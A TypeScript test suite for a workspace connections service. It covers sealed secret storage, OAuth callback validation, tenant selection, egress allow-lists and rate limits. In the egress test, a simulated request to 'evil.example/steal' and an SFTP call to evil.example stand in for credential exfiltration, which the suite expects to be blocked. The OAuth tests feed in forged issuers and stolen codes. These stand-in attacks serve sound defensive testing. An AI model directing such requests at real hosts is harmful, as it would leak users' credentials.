import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { connectors } from '../../connectors/index.ts'
import { buildApp } from '../../server/app.ts'
import { StepError } from '../../connectors/kit/errors.ts'
import { createDenials } from '../../server/connect/denials.ts'
import { createConnections } from '../../server/connect/service.ts'
import { rejection, startRemote } from '../connectors/support/remote.ts'
import { createKeyring, open } from '../../server/store/key/secrets.ts'
import {
  API,
  type Caller,
  type Installation,
  install,
  publishedFlow,
  signIn,
  PASSWORD,
  XERO_CONNECTION,
} from './installation.ts'
import { TRACE_DAYS } from '../support/trace-days.ts'

let it: Installation
let workspace: string
let owner: Caller
let at: string

beforeAll(async () => {
  it = await install()
  workspace = await it.workspace()
  owner = await it.member(workspace, 'owner')
  at = `/workspaces/${workspace}/connections`
})
afterAll(() => it.close())

const secret = XERO_CONNECTION.secrets.clientSecret
const make = async () => (await owner.call('POST', at, XERO_CONNECTION)).json().id

describe('secrets', () => {
  test('go in and never come out: answers say only which are set', async () => {
    const made = await owner.call('POST', at, XERO_CONNECTION)
    expect(made.json()).toMatchObject({ secretsSet: ['clientId', 'clientSecret'], state: 'new', usedBy: [] })
    const { id } = made.json()
    const answers = [
      made,
      await owner.call('GET', at),
      await owner.call('GET', `${at}/${id}`),
      await owner.call('PATCH', `${at}/${id}`, { name: 'Other' }),
      await owner.call('PATCH', `${at}/${id}`, { secrets: { clientSecret: `${secret}-2` } }),
      await owner.call('POST', `${at}/${id}/test`),
      await owner.call('POST', at, { ...XERO_CONNECTION, secrets: { clientSecret: secret } }),
      await owner.call('POST', at, { ...XERO_CONNECTION, secrets: { ...XERO_CONNECTION.secrets, other: secret } }),
    ]
    for (const answer of answers) expect(answer.body).not.toContain(secret)
    expect(answers.slice(-2).map((answer) => answer.json().code)).toEqual(['CONNECTION_INVALID', 'CONNECTION_INVALID'])
  })

  test('are sealed in the table, and open only in their place with the key', async () => {
    const id = await make()
    const row = await it.database.owner.db
      .selectFrom('connections')
      .selectAll()
      .where('id', '=', id)
      .executeTakeFirstOrThrow()
    expect(JSON.stringify(row)).not.toContain(secret)
    expect(row.secrets.includes(Buffer.from(secret))).toBe(false)
    const place = `connections/${workspace}/${id}/secrets`
    expect(JSON.parse(open(it.keys, place, row.secrets).toString())).toEqual(XERO_CONNECTION.secrets)
    expect(() => open(it.keys, `connections/${workspace}/another/secrets`, row.secrets)).toThrow('changed or moved')
    expect(() => open(createKeyring(Buffer.alloc(32, 7)), place, row.secrets)).toThrow('another key')
  })

  test('are replaced one by one, and a change ends the sign-in', async () => {
    const id = await make()
    await it.database.owner.db
      .updateTable('connections')
      .set({ state: 'ready', tokens: Buffer.from('sealed'), tested_at: new Date() })
      .where('id', '=', id)
      .execute()
    expect((await owner.call('PATCH', `${at}/${id}`, { name: 'Renamed' })).json()).toMatchObject({
      signedIn: true,
      state: 'ready',
    })
    const changed = await owner.call('PATCH', `${at}/${id}`, { secrets: { clientSecret: 'new-one' } })
    expect(changed.json()).toMatchObject({ name: 'Renamed', signedIn: false, state: 'new', testedAt: null })
    const row = await it.database.owner.db
      .selectFrom('connections')
      .select('secrets')
      .where('id', '=', id)
      .executeTakeFirstOrThrow()
    expect(JSON.parse(open(it.keys, `connections/${workspace}/${id}/secrets`, row.secrets).toString())).toEqual({
      clientId: 'id-of-the-app',
      clientSecret: 'new-one',
    })
  })
})

test('connections in any odd state keep nobody from the lists, from health or from mending them', async () => {
  const bound: string[] = []
  for (let left = 5; left > 0; left--) bound.push((await publishedFlow(owner, workspace)).connection)
  const [moved = '', unknown = '', ended = '', bare = '', scrambled = ''] = bound
  const change = (id: string, to: object) =>
    it.database.owner.db.updateTable('connections').set(to).where('id', '=', id).execute()
  const sealed = await it.database.owner.db
    .selectFrom('connections')
    .select('secrets')
    .where('id', '=', ended)
    .executeTakeFirstOrThrow()
  await change(moved, { ...sealed, tokens: sealed.secrets, state: 'ready' })
  await change(unknown, { connector: 'no-such-system', login: 'telepathy', settings: '{}' })
  await change(ended, { state: 'sign-in-needed', valid_until: '2020-02-29', tokens: Buffer.from('odd') })
  await change(bare, { settings: '{"callsPerDay":"many","callsPerMinute":null}', state: 'ready', findings: '"odd"' })
  await change(scrambled, { secrets: Buffer.alloc(200, 1) })

  for (const path of [...bound.map((id) => `connections/${id}`), 'connections', 'health', 'automations', 'now']) {
    const answer = await owner.call('GET', `/workspaces/${workspace}/${path}`)
    expect(answer.statusCode, `${path}: ${answer.body}`).toBe(200)
  }
  const health = (await owner.call('GET', `/workspaces/${workspace}/health`)).json()
  const states = health.connections.map(({ id, state }: { id: string; state: string }) => [id, state])
  expect(Object.fromEntries(states)).toMatchObject({ [moved]: 'sign-in-needed', [unknown]: 'new', [bare]: 'ready' })

  // Secrets of another connection are not used, and whose they should be enters them anew.
  const shown = (await owner.call('GET', `${at}/${moved}`)).json()
  expect(shown).toMatchObject({ secretsSet: [], stateMessage: expect.stringContaining('Enter them anew') })
  const tried = await owner.call('POST', `${at}/${moved}/test`)
  expect(tried.json()).toMatchObject({ ok: false, findings: [{ detail: expect.stringContaining('does not open') }] })
  for (const id of [unknown, bare, scrambled]) {
    expect((await owner.call('POST', `${at}/${id}/test`)).json()).toMatchObject({ ok: false })
  }
  const mended = await owner.call('PATCH', `${at}/${moved}`, { secrets: XERO_CONNECTION.secrets })
  expect(mended.json()).toMatchObject({ secretsSet: ['clientId', 'clientSecret'], state: 'new', stateMessage: null })
})

test('runs at a time are limited, set free, and change nothing of the sign-in', async () => {
  const id = await make()
  await it.database.owner.db.updateTable('connections').set({ state: 'ready' }).where('id', '=', id).execute()
  const change = (maxRuns: unknown) => owner.call('PATCH', `${at}/${id}`, { maxRuns })
  expect((await owner.call('GET', `${at}/${id}`)).json().maxRuns).toBeNull()
  expect((await change(3)).json()).toMatchObject({ maxRuns: 3, state: 'ready' })
  expect((await owner.call('PATCH', `${at}/${id}`, { name: 'Renamed' })).json().maxRuns).toBe(3)
  expect((await change(null)).json().maxRuns).toBeNull()
  for (const wrong of [0, 101, 1.5, 'many']) {
    const refused = (await change(wrong)).json()
    expect(refused).toMatchObject({ status: 400, code: 'REQUEST_INVALID' })
    expect(refused.problems).toContainEqual(expect.objectContaining({ field: 'body.maxRuns' }))
  }
})

test('settings get their defaults, and what does not fit is named', async () => {
  const made = await owner.call('POST', at, XERO_CONNECTION)
  expect(made.json().settings).toMatchObject({ apiUrl: 'https://api.xero.com' })
  const cases = [
    [{ connector: 'sap' }, 'body.connector'],
    [{ login: 'telepathy' }, 'body.login'],
    [{ settings: { apiUrl: 'not an address' } }, 'body.settings.apiUrl'],
    [{ settings: { adress: 'x' } }, 'body.settings.adress'],
    [{ secrets: { clientId: 'only' } }, 'body.secrets.clientSecret'],
  ] as const
  for (const [change, field] of cases) {
    const refused = await owner.call('POST', at, { ...XERO_CONNECTION, ...change })
    expect(refused.json()).toMatchObject({ status: 422, code: 'CONNECTION_INVALID', problems: [{ field }] })
  }
})

test('a new address does not get the login that was entered for the old one', async () => {
  const id = await make()
  const moved = { apiUrl: 'https://evil.example' }
  for (const secrets of [undefined, { clientSecret: 'only-this-one' }]) {
    const refused = await owner.call('PATCH', `${at}/${id}`, { settings: moved, ...(secrets ? { secrets } : {}) })
    expect(refused.json()).toMatchObject({ code: 'CONNECTION_INVALID' })
    expect(refused.json().detail).toContain('evil.example:443')
  }
  expect((await owner.call('GET', `${at}/${id}`)).json().settings.apiUrl).toBe('https://api.xero.com')
  const again = { settings: moved, secrets: XERO_CONNECTION.secrets }
  expect((await owner.call('PATCH', `${at}/${id}`, again)).statusCode).toBe(200)
  // The same hosts and fewer of them need nothing.
  expect((await owner.call('PATCH', `${at}/${id}`, { settings: moved })).statusCode).toBe(200)
})

test('a connection that a flow uses cannot be deleted; a free one can', async () => {
  const { flow, connection } = await publishedFlow(owner, workspace)
  const refused = await owner.call('DELETE', `${at}/${connection}`)
  expect([refused.statusCode, refused.json().code]).toEqual([409, 'CONNECTION_IN_USE'])
  expect(refused.json().detail).toContain('Paid invoices')
  expect((await owner.call('GET', `${at}/${connection}`)).json().usedBy).toEqual([{ id: flow, name: 'Paid invoices' }])

  const free = await make()
  expect((await owner.call('DELETE', `${at}/${free}`)).json()).toEqual({ signIn: 'no-sign-in' })
  expect((await owner.call('GET', `${at}/${free}`)).statusCode).toBe(404)
})

test('a connection by which something was sent stays: without it, it could be sent twice', async () => {
  const id = await make()
  await it.database.owner.db
    .insertInto('targets')
    .values({ workspace_id: workspace, connection_id: id, operation: 'emarsys.send-sales' })
    .execute()
  const refused = await owner.call('DELETE', `${at}/${id}`)
  expect(refused.json()).toMatchObject({ code: 'CONNECTION_IN_USE', detail: expect.stringContaining('sent twice') })
})

test('a test that cannot reach the other system answers with a finding, not with an error', async () => {
  const made = await owner.call('POST', at, {
    ...XERO_CONNECTION,
    settings: { identityUrl: 'http://127.0.0.1:9', apiUrl: 'http://127.0.0.1:9' },
  })
  const tried = await owner.call('POST', `${at}/${made.json().id}/test`)
  expect(tried.statusCode).toBe(200)
  expect(tried.json().ok).toBe(false)
  expect(tried.json().findings.some((finding: { ok: boolean }) => !finding.ok)).toBe(true)
  const { items } = (await owner.call('GET', `/workspaces/${workspace}/audit?action=connection.test`)).json()
  expect(items[0]).toMatchObject({ subject: { connection: made.json().id } })
})

test('a login that the other system refuses is to be entered anew, until a test goes well', async () => {
  let status = 200
  const remote = await startRemote((_, response) => response.writeHead(status).end('{}'))
  const made = await owner.call('POST', at, {
    ...{ connector: 'http', name: 'Stock', login: 'bearer', secrets: { token: 'the-token-of-the-stock' } },
    settings: { baseUrl: remote.url },
  })
  const { id } = made.json()
  const parts = { db: it.database.app.db, keys: it.keys, connectors, egressAllow: [remote.host] }
  const connections = createConnections(parts)
  const standing = async (answer: number) => {
    status = answer
    await connections.test(workspace, id, AbortSignal.timeout(15_000))
    const { state, stateMessage, findings } = (await owner.call('GET', `${at}/${id}`)).json()
    return [state, stateMessage === null ? null : stateMessage === findings[0].detail, findings.length]
  }
  expect(await standing(200)).toEqual(['ready', null, 1])
  // What may pass says nothing of the login.
  expect(await standing(503)).toEqual(['ready', null, 1])
  expect(await standing(401)).toEqual(['sign-in-needed', true, 1])
  expect(await standing(503)).toEqual(['sign-in-needed', false, 1])
  expect(await standing(200)).toEqual(['ready', null, 1])
  await connections.close()
  await remote.close()
})

test('a login that is led to another host goes nowhere, and the audit log says so once', async () => {
  const made = await owner.call('POST', at, {
    ...{ connector: 'http', name: 'Shop', login: 'bearer', secrets: { token: 'the-token-of-the-shop' } },
    settings: { baseUrl: 'https://shop.example' },
  })
  const { id } = made.json()
  const connections = createConnections({ db: it.database.app.db, keys: it.keys, connectors, egressAllow: [] })
  const { http, wire } = (await connections.open(workspace, id)).context(new AbortController().signal)
  const steal = () => rejection(http.send({ method: 'GET', url: 'https://evil.example/steal?a=1' }))
  expect(await steal()).toBeInstanceOf(StepError)
  expect(await steal()).toMatchObject({ code: 'EGRESS_BLOCKED', dialled: 'no' })
  const ssh = { protocol: 'SFTP', host: 'evil.example', port: 22 }
  expect(await rejection(wire.call(ssh, async () => undefined))).toMatchObject({ code: 'EGRESS_BLOCKED' })
  await connections.close()
  const denials = createDenials(it.database.app.db)
  for (const host of ['a.example:443', 'b.example:443']) denials.note('egress.too_many_hosts', workspace, id, host)
  await denials.settled()
  const many = (await owner.call('GET', `/workspaces/${workspace}/audit?action=egress.too_many_hosts`)).json()
  expect(many.items).toHaveLength(1)
  const { items } = (await owner.call('GET', `/workspaces/${workspace}/audit?action=credential.host_denied`)).json()
  expect(items.map(({ detail }: { detail: object }) => detail)).toEqual([
    { host: 'evil.example:22' },
    { host: 'evil.example:443' },
  ])
  expect(items[0]).toMatchObject({ actor: { kind: 'system', id: null }, subject: { connection: id } })
})

describe('signing in by browser', () => {
  test('needs a login that has such a page, and a session', async () => {
    const custom = await owner.call('POST', `${at}/${await make()}/authorize`)
    expect(custom.json().code).toBe('CONNECTION_INVALID')
    const { id } = (await owner.call('POST', at, { ...XERO_CONNECTION, login: 'oauth-code' })).json()
    const { secret: token } = (await owner.call('POST', `/workspaces/${workspace}/tokens`, { name: 'T' })).json()
    expect((await it.withToken(token).call('POST', `${at}/${id}/authorize`)).json().code).toBe('NOT_ALLOWED')
  })

  test('comes back once, in the session that began it, and then trades the code for tokens', async () => {
    const xero = await tokenServer()
    const connections = createConnections({
      db: it.database.app.db,
      keys: it.keys,
      connectors,
      egressAllow: [`127.0.0.1:${xero.port}`],
    })
    const api = await buildApp({
      config: { publicUrl: undefined, sessionHours: 12, traceDays: TRACE_DAYS, logLevel: 'silent' },
      app: it.database.app.db,
      system: it.database.system.db,
      keys: it.keys,
      evaluator: { parse: async () => [], preview: async () => ({ ok: true, value: undefined }) },
      catalog: new Map(),
      connections,
    })
    try {
      const base = `http://127.0.0.1:${xero.port}`
      const made = await owner.call('POST', at, {
        ...XERO_CONNECTION,
        login: 'oauth-code',
        settings: { identityUrl: base, loginUrl: base, apiUrl: base },
      })
      const { id } = made.json()
      const cookie = await signIn(api, owner.email, PASSWORD)
      const begin = async () => {
        const answer = await api.inject({
          method: 'POST',
          url: `${API}${at}/${id}/authorize`,
          headers: { cookie, 'sec-fetch-site': 'same-origin', host: 'tieline.test' },
        })
        return new URL(answer.json().url)
      }
      const back = (state: string, as = cookie, more = '&code=the-code') =>
        api.inject({
          url: `${API}/oauth/callback?state=${encodeURIComponent(state)}${more}`,
          headers: { cookie: as, 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'navigate' },
        })

      const first = await begin()
      const state = first.searchParams.get('state') ?? ''
      expect(first.searchParams.get('redirect_uri')).toBe(`http://tieline.test${API}/oauth/callback`)

      const thief = await signIn(api, (await it.member(workspace, 'owner')).email, PASSWORD)
      expect((await back(state, thief)).json().code).toBe('OAUTH_REFUSED')
      expect((await back(`${state.slice(0, -1)}_`)).json().code).toBe('OAUTH_REFUSED')

      const done = await back(state, cookie, '&code=the-code&session_state=of-theirs')
      expect(done.statusCode).toBe(302)
      expect(done.headers.location).toMatch(new RegExp(`^/w/${workspace}/connections/${id}\\?`))
      expect(xero.asked()).toContainEqual(expect.stringContaining('code=the-code'))
      expect((await back(state)).json().code).toBe('OAUTH_REFUSED')

      const refused = await back((await begin()).searchParams.get('state') ?? '', cookie, '&error=access_denied')
      expect(refused.headers.location).toContain('?error=BROKEN_OFF')

      // RFC 9207: who answers is the one who was asked, to the letter, with a code or an error.
      const asked = xero.asked().length
      for (const iss of ['https://evil.test', `${base}/`, base.toUpperCase(), '']) {
        for (const more of ['&code=stolen', '&error=access_denied']) {
          const state = (await begin()).searchParams.get('state') ?? ''
          const answer = await back(state, cookie, `${more}&iss=${encodeURIComponent(iss)}`)
          expect([iss, answer.statusCode, answer.json().code]).toEqual([iss, 400, 'OAUTH_REFUSED'])
          expect((await back(state)).json().code).toBe('OAUTH_REFUSED') // that way back is used up
        }
      }
      expect(xero.asked()).toHaveLength(asked)
      const named = (await begin()).searchParams.get('state') ?? ''
      const own = await back(named, cookie, `&code=the-code&iss=${encodeURIComponent(base)}`)
      expect(own.headers.location).toContain('signedIn=yes')

      const late = (await begin()).searchParams.get('state') ?? ''
      await it.database.owner.db
        .updateTable('oauth_states')
        .set({ expires_at: new Date(Date.now() - 1000) })
        .execute()
      expect((await back(late)).json().code).toBe('OAUTH_REFUSED')

      // A person's browser is sent to a page that says it, whatever was wrong; nothing of the answer goes along.
      const seen = async (query: string, as = cookie) => {
        const answer = await api.inject({
          url: `${API}/oauth/callback?${query}`,
          headers: { cookie: as, 'sec-fetch-site': 'cross-site', accept: 'text/html,application/xhtml+xml,*/*;q=0.8' },
        })
        return `${answer.statusCode} ${answer.headers.location}`
      }
      const page = `302 /w/${workspace}/connections`
      const told = xero.asked().length
      const way = async () => `state=${(await begin()).searchParams.get('state')}`
      expect(await seen(`state=${late}&code=the-code`)).toBe(`${page}?refused=yes`)
      expect(await seen(`${await way()}&code=the-code`, '')).toBe(`${page}?refused=yes`)
      expect(await seen(`${await way()}&code=the-code`, thief)).toBe(`${page}?refused=yes`)
      expect(await seen(`state=//evil.test/${workspace}.x&code=c`)).toBe('302 /?refused=yes')
      expect(await seen('error=invalid_request')).toBe('302 /?refused=yes')
      const strange = await seen(`${await way()}&code=stolen&iss=https%3A%2F%2Fevil.test`)
      expect(strange).toBe(`${page}/${id}?error=ANOTHER_PAGE`)
      expect(xero.asked()).toHaveLength(told)
    } finally {
      await api.close()
      await connections.close()
      await xero.close()
    }
  })
})

const ONE = '11111111-2222-4333-8444-555555555555'
const TWO = '22222222-2222-4333-8444-555555555555'

test('a sign-in that reaches several organisations is to none until one is chosen, by somebody who may, once', async () => {
  const xero = await tokenServer([
    [ONE, 'Nord'],
    [TWO, 'Wind'],
  ])
  const here = await install({ database: it.database, egressAllow: [`127.0.0.1:${xero.port}`] })
  const connections = createConnections({
    ...{ db: it.database.app.db, keys: it.keys, connectors, egressAllow: [`127.0.0.1:${xero.port}`] },
  })
  try {
    const base = `http://127.0.0.1:${xero.port}`
    const home = await here.workspace()
    const by = await here.member(home, 'consultant')
    const path = `/workspaces/${home}/connections`
    const { id } = (
      await by.call('POST', path, {
        ...{ ...XERO_CONNECTION, login: 'oauth-code' },
        settings: { identityUrl: base, loginUrl: base, apiUrl: base },
      })
    ).json()
    expect((await by.call('GET', `${path}/${id}/accounts`)).json().code).toBe('REMOTE_FAILED') // not signed in yet
    await connections.exchangeCode(home, id, 'the-code', `${base}/back`, AbortSignal.timeout(15_000))
    const shown = (await by.call('GET', `${path}/${id}`)).json()
    expect(shown).toMatchObject({ chooses: true, signedIn: true, state: 'sign-in-needed', pinned: {} })
    await expect(connections.open(home, id)).rejects.toMatchObject({ code: 'CONFIG_INVALID' })

    expect((await by.call('GET', `${path}/${id}/accounts`)).json()).toEqual({
      title: 'Organisation',
      items: [
        { id: ONE, name: 'Nord' },
        { id: TWO, name: 'Wind' },
      ],
    })
    const operator = await here.member(home, 'operator')
    const choose = (account: string, who = by) => who.call('PUT', `${path}/${id}/accounts`, { account })
    expect((await choose(TWO, operator)).json().code).toBe('NOT_ALLOWED')
    expect((await choose('33333333-2222-4333-8444-555555555555')).json().code).toBe('CONNECTION_INVALID')
    const both = await Promise.all([choose(TWO), choose(ONE)])
    expect(both.map(({ statusCode }) => statusCode).sort()).toEqual([200, 422])
    const [tenantId, organisation] = both[0]?.statusCode === 200 ? [TWO, 'Wind'] : [ONE, 'Nord']
    expect((await by.call('GET', `${path}/${id}`)).json()).toMatchObject({
      ...{ chooses: false, state: 'ready', stateMessage: null },
      ...{ settings: { tenantId, organisation }, pinned: { tenantId, baseCurrency: 'EUR' } },
    })
    expect((await choose(tenantId)).json().code).toBe('CONNECTION_INVALID')
    const { items } = (await by.call('GET', `/workspaces/${home}/audit?action=connection.choose-account`)).json()
    expect(items).toMatchObject([{ subject: { connection: id }, detail: { account: tenantId } }])
  } finally {
    await Promise.all([here.close(), connections.close()])
    await xero.close()
  }
})

/** Gives tokens to whoever asks, and knows one organisation, or those it is told. */
async function tokenServer(reached: readonly (readonly [id: string, name: string])[] = [[ONE, 'N']]) {
  const asked: string[] = []
  const server = createServer((request, response) => {
    const own = reached.find(([id]) => id === request.headers['xero-tenant-id'])
    let body = ''
    request.on('data', (chunk: Buffer) => {
      body += chunk.toString()
    })
    request.on('end', () => {
      asked.push(body)
      response.setHeader('content-type', 'application/json')
      response.end(
        request.url === '/connect/token'
          ? JSON.stringify({ access_token: 'at', refresh_token: 'rt', token_type: 'Bearer', expires_in: 1800 })
          : request.url === '/connections'
            ? JSON.stringify(
                reached.map(([tenantId, tenantName]) => ({
                  ...{ id: `c-${tenantName}`, tenantId, tenantName, tenantType: 'ORGANISATION' },
                })),
              )
            : JSON.stringify({ Organisations: own ? [{ Name: own[1], BaseCurrency: 'EUR' }] : [] }),
      )
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return {
    port: (server.address() as AddressInfo).port, // it listens on TCP, so this is no pipe's name
    asked: () => asked,
    close: () => new Promise((resolve) => server.close(resolve)),
  }
}

test('a workspace with 61 systems calls sixty of them within a minute; the last waits, and the audit log says so', async () => {
  const ports = Array.from({ length: 61 }, (_, index) => index + 1)
  const app = it.database.app.db
  const egressAllow = ports.map((port) => `127.0.0.1:${port}`)
  const space = await it.workspace()
  const consultant = await it.member(space, 'owner')
  const connections = createConnections({ db: app, keys: it.keys, connectors, egressAllow })
  const codes: string[] = []
  for (const port of ports) {
    const baseUrl = `http://127.0.0.1:${port}`
    const made = await consultant.call('POST', `/workspaces/${space}/connections`, {
      ...{ connector: 'http', name: `System ${port}`, login: 'none', secrets: {}, settings: { baseUrl } },
    })
    const { http } = (await connections.open(space, made.json().id)).context(new AbortController().signal)
    const error = await rejection(http.send({ method: 'GET', url: `${baseUrl}/` }))
    codes.push(error instanceof StepError ? error.code : String(error))
  }
  // Nobody listens at those ports; the last was not even tried.
  expect(new Set(codes.slice(0, 60))).toEqual(new Set(['CONNECTION_LOST']))
  expect(codes[60]).toBe('RATE_LIMITED')
  await connections.close()
  const { items } = (await consultant.call('GET', `/workspaces/${space}/audit?action=egress.too_many_hosts`)).json()
  expect(items.map(({ detail }: { detail: object }) => detail)).toEqual([{ host: '127.0.0.1:61' }])
})
